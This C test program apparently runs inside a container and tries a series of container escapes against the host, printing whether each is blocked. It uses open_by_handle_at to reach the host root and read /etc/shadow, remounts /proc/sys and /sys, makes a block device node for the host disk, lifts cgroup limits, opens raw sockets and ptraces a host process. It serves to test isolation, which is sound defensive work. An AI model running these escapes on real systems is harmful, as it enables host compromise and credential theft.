/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* What a compromised container init tries against the host (issue 16), one line per attempt:
 *   ATTACK <name> BLOCKED|SUCCEEDED <detail>
 * Compiled statically by the tests into the container's root and run as its init's child.
 * Nothing here changes the host: sysctls are written back with the value they have, the kernel
 * entry points are called with arguments they refuse after their permission check (so EPERM
 * means refused, any other error means the call reached the kernel's code), a traced process
 * is released at once. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <net/if.h>
#include <sys/ioctl.h>
#include <sys/klog.h>
#include <sys/socket.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void report(const char *name, int succeeded, const char *fmt, ...) __attribute__((format(printf, 3, 4)));
static void report(const char *name, int succeeded, const char *fmt, ...) {
    char detail[512];
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(detail, sizeof detail, fmt, ap);
    va_end(ap);
    printf("ATTACK %s %s %s\n", name, succeeded ? "SUCCEEDED" : "BLOCKED", detail);
    fflush(stdout);
}

/* Reads a sysctl and writes the same value back: success proves write access, changes nothing. */
static int rewrite(const char *path, char *why, size_t whyLen) {
    char value[256];
    int fd = open(path, O_RDONLY);
    if (fd < 0) {
        snprintf(why, whyLen, "open %s: %s", path, strerror(errno));
        return 0;
    }
    ssize_t n = read(fd, value, sizeof value - 1);
    close(fd);
    if (n <= 0) {
        snprintf(why, whyLen, "read %s: %s", path, n < 0 ? strerror(errno) : "empty");
        return 0;
    }
    fd = open(path, O_WRONLY);
    if (fd < 0) {
        snprintf(why, whyLen, "open %s for writing: %s", path, strerror(errno));
        return 0;
    }
    ssize_t w = write(fd, value, (size_t)n);
    int err = errno;
    close(fd);
    if (w != n) {
        snprintf(why, whyLen, "write %s: %s", path, w < 0 ? strerror(err) : "short");
        return 0;
    }
    snprintf(why, whyLen, "rewrote %s", path);
    return 1;
}

/* open_by_handle_at(2) with the handle of inode 2 (the root directory of an ext4 file system),
 * relative to the container's own root: the file system's real root, outside every mount. */
static void openByHandle(void) {
    struct {
        struct file_handle fh;
        unsigned char bytes[8];
    } h;
    uint32_t ino = 2, gen = 0;
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1; /* FILEID_INO32_GEN */
    memcpy(h.fh.f_handle, &ino, 4);
    memcpy(h.fh.f_handle + 4, &gen, 4);
    int mnt = open("/", O_RDONLY | O_DIRECTORY);
    int root = (int)syscall(SYS_open_by_handle_at, mnt, &h.fh, O_RDONLY | O_DIRECTORY);
    if (root < 0) {
        report("open-by-handle", 0, "open_by_handle_at: %s", strerror(errno));
        return;
    }
    int shadow = openat(root, "etc/shadow", O_RDONLY);
    char buf[64];
    ssize_t n = shadow >= 0 ? read(shadow, buf, sizeof buf) : -1;
    if (n > 0) {
        report("open-by-handle", 1, "read %zd bytes of the host's /etc/shadow", n);
    } else {
        /* Reaching the file system's root at all is the escape. */
        report("open-by-handle", 1, "opened the file system's root (etc/shadow: %s)", strerror(errno));
    }
}

static void procSys(void) {
    char why[512];
    if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0) {
        report("remount-proc-sys", 1, "/proc/sys is read-write now");
    } else {
        report("remount-proc-sys", 0, "remount: %s", strerror(errno));
    }
    if (umount2("/proc/sys", MNT_DETACH) == 0) {
        report("unmount-proc-sys", 1, "the read-only /proc/sys is gone");
    } else {
        report("unmount-proc-sys", 0, "umount: %s", strerror(errno));
    }
    int ok = rewrite("/proc/sys/kernel/core_pattern", why, sizeof why);
    report("write-core-pattern", ok, "%s", why);
}

/* The /sys the container was given must be mounted read-only (README, docs/lxc.md): the mount
 * flag itself, as statvfs reports it for /sys and for an attribute below it, and an open for
 * writing of a network attribute every namespace has (lo's queue length). The open writes
 * nothing; on a read-only mount it fails with EROFS, in a user namespace EACCES may come first,
 * which is why the mount flag is what decides. */
static void sysReadOnly(void) {
    const char *paths[] = {"/sys", "/sys/class/net/lo/tx_queue_len"};
    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        struct statvfs st;
        if (statvfs(paths[i], &st) != 0) {
            report("sys-writable", 1, "statvfs %s: %s (no read-only /sys to check)", paths[i], strerror(errno));
            return;
        }
        if ((st.f_flag & ST_RDONLY) == 0) {
            report("sys-writable", 1, "%s is on a read-write mount", paths[i]);
            return;
        }
    }
    int fd = open("/sys/class/net/lo/tx_queue_len", O_WRONLY);
    if (fd >= 0) {
        close(fd);
        report("sys-writable", 1, "opened /sys/class/net/lo/tx_queue_len for writing");
        return;
    }
    report("sys-writable", 0, "/sys is mounted read-only (open for writing: %s)", strerror(errno));
}

static void freshMounts(void) {
    char why[512];
    if (mount("proc", "/mnt/proc", "proc", 0, NULL) == 0) {
        int ok = rewrite("/mnt/proc/sys/kernel/core_pattern", why, sizeof why);
        report("fresh-proc", 1, "mounted a new procfs read-write (%s)", why);
        report("fresh-proc-core-pattern", ok, "%s", why);
        umount2("/mnt/proc", MNT_DETACH);
    } else {
        report("fresh-proc", 0, "mount: %s", strerror(errno));
    }
    if (mount("sysfs", "/mnt/sys", "sysfs", 0, NULL) == 0) {
        report("fresh-sysfs", 1, "mounted a new sysfs read-write");
        umount2("/mnt/sys", MNT_DETACH);
    } else {
        report("fresh-sysfs", 0, "mount: %s", strerror(errno));
    }
    if (mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL) == 0) {
        report("remount-sys", 1, "/sys is read-write now");
    } else {
        report("remount-sys", 0, "remount: %s", strerror(errno));
    }
}

static void kernelLog(void) {
    char buf[256];
    int n = klogctl(3 /* SYSLOG_ACTION_READ_ALL */, buf, sizeof buf);
    if (n > 0) {
        report("syslog", 1, "read %d bytes of the kernel log", n);
    } else {
        report("syslog", 0, "syslog: %s", n < 0 ? strerror(errno) : "empty");
    }
    /* Opening /proc/kmsg is the permission check (reading would take lines from the host's
     * syslog daemon); a /dev/null over it is a mask. /dev/kmsg is not in a container's /dev. */
    int fd = open("/proc/kmsg", O_RDONLY | O_NONBLOCK);
    struct stat st;
    if (fd < 0) {
        report("proc-kmsg", 0, "open /proc/kmsg: %s", strerror(errno));
    } else {
        int masked = fstat(fd, &st) == 0 && S_ISCHR(st.st_mode);
        report("proc-kmsg", !masked, "%s", masked ? "masked by /dev/null" : "opened the kernel log");
        close(fd);
    }
    fd = open("/dev/kmsg", O_RDONLY | O_NONBLOCK);
    report("dev-kmsg", fd >= 0, "open /dev/kmsg: %s", fd >= 0 ? "opened" : strerror(errno));
    if (fd >= 0) {
        close(fd);
    }
}

/* EPERM: refused at the permission check; ENOSYS: refused as absent (by the filter, or a
 * kernel built without it). Anything else: the call got past its permission check. */
static void kernelCall(const char *name, long rc) {
    if (rc >= 0) {
        report(name, 1, "returned %ld", rc);
    } else {
        report(name, errno != EPERM && errno != ENOSYS, "%s", strerror(errno));
    }
}

static void kernelEntryPoints(void) {
    kernelCall("init-module", syscall(SYS_init_module, NULL, 0UL, ""));
    kernelCall("finit-module", syscall(SYS_finit_module, -1, "", 0));
    /* 17 segments is one more than the kernel takes: refused after the permission check. */
    kernelCall("kexec-load", syscall(SYS_kexec_load, 0UL, 17UL, NULL, 0UL));
    kernelCall("iopl", syscall(SYS_iopl, 3));
    /* Keyrings are not per container: the host root's user keyring (and the keys in it) is
     * the privileged container's. KEYCTL_GET_KEYRING_ID = 0, KEY_SPEC_USER_KEYRING = -4. */
    kernelCall("keyring", syscall(SYS_keyctl, 0, -4, 0));
}

/* A block device node for the disk holding the container's root, then a read from it. */
static void blockDevice(void) {
    struct stat st;
    if (stat("/", &st) != 0) {
        report("block-device", 0, "stat /: %s", strerror(errno));
        return;
    }
    unlink("/tmp/ct-disk");
    if (mknod("/tmp/ct-disk", S_IFBLK | 0600, st.st_dev) != 0) {
        report("mknod-block", 0, "mknod %u:%u: %s", major(st.st_dev), minor(st.st_dev), strerror(errno));
    } else {
        report("mknod-block", 1, "made a node for %u:%u", major(st.st_dev), minor(st.st_dev));
        int fd = open("/tmp/ct-disk", O_RDONLY);
        char sector[512];
        ssize_t n = fd >= 0 ? read(fd, sector, sizeof sector) : -1;
        report("read-block", n > 0, "%s", n > 0 ? "read the host's disk" : strerror(errno));
        unlink("/tmp/ct-disk");
    }
}

/* Mounts each cgroup hierarchy it can and tries to lift its own limits: all devices, memory. */
static void cgroups(void) {
    static const struct {
        const char *type, *options, *file, *value;
    } tries[] = {
        {"cgroup", "devices", "devices.allow", "a"},
        {"cgroup", "memory", "memory.limit_in_bytes", "-1"},
        {"cgroup2", NULL, "memory.max", "max"},
    };
    for (size_t i = 0; i < sizeof tries / sizeof tries[0]; ++i) {
        char name[64], path[128];
        snprintf(name, sizeof name, "cgroup-%s", tries[i].file);
        if (mount("cgroup", "/mnt/cgroup", tries[i].type, 0, tries[i].options) != 0) {
            report(name, 0, "mount %s %s: %s", tries[i].type, tries[i].options ? tries[i].options : "", strerror(errno));
            continue;
        }
        snprintf(path, sizeof path, "/mnt/cgroup/%s", tries[i].file);
        int fd = open(path, O_WRONLY);
        ssize_t w = fd >= 0 ? write(fd, tries[i].value, strlen(tries[i].value)) : -1;
        int err = errno;
        if (fd >= 0) {
            close(fd);
        }
        report(name, w > 0, "write '%s' to %s: %s", tries[i].value, tries[i].file, w > 0 ? "done" : strerror(err));
        umount2("/mnt/cgroup", MNT_DETACH);
    }
}

/* On the host's network (a container without a network of its own): a packet socket sees every
 * frame of the host's interfaces; setting an interface's flags (to the value they have)
 * proves it could reconfigure them. */
static void network(void) {
    int raw = socket(AF_PACKET, SOCK_RAW, 0);
    report("packet-socket", raw >= 0, "%s", raw >= 0 ? "opened a packet socket" : strerror(errno));
    if (raw >= 0) {
        close(raw);
    }
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strcpy(ifr.ifr_name, "lo");
    if (s < 0 || ioctl(s, SIOCGIFFLAGS, &ifr) != 0) {
        report("interface-flags", 0, "read lo's flags: %s", strerror(errno));
    } else if (ioctl(s, SIOCSIFFLAGS, &ifr) == 0) {
        report("interface-flags", 1, "set lo's flags");
    } else {
        report("interface-flags", 0, "set lo's flags: %s", strerror(errno));
    }
    if (s >= 0) {
        close(s);
    }
}

/* A process the host entered into the container (virsh lxc-enter-namespace) keeps the host's
 * identity: tracing it would run code as that identity. Waits for "sleep 4242" to appear. */
static void ptraceHostProcess(void) {
    printf("ATTACK-WAITING-FOR-VICTIM\n");
    fflush(stdout);
    for (int tries = 0; tries < 1200; ++tries) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d)) != NULL) {
            char path[300], cmd[64];
            if (e->d_name[0] < '0' || e->d_name[0] > '9') {
                continue;
            }
            snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
            int fd = open(path, O_RDONLY);
            ssize_t n = fd >= 0 ? read(fd, cmd, sizeof cmd - 1) : -1;
            if (fd >= 0) {
                close(fd);
            }
            if (n > 0 && n == (ssize_t)sizeof "/bin/sleep\0" "4242" && memcmp(cmd, "/bin/sleep\0" "4242", (size_t)n) == 0) {
                pid_t pid = atoi(e->d_name);
                closedir(d);
                if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
                    waitpid(pid, NULL, __WALL);
                    ptrace(PTRACE_DETACH, pid, NULL, NULL);
                    report("ptrace-host-process", 1, "attached to pid %d", pid);
                } else {
                    report("ptrace-host-process", 0, "PTRACE_ATTACH %d: %s", pid, strerror(errno));
                }
                return;
            }
        }
        if (d) {
            closedir(d);
        }
        struct timespec t = {0, 50 * 1000 * 1000};
        nanosleep(&t, NULL);
    }
    report("ptrace-host-process", 0, "no entered process appeared");
}

int main(void) {
    openByHandle();
    procSys();
    sysReadOnly();
    freshMounts();
    kernelLog();
    kernelEntryPoints();
    blockDevice();
    cgroups();
    network();
    ptraceHostProcess();
    printf("ATTACKS-DONE\n");
    fflush(stdout);
    return 0;
}
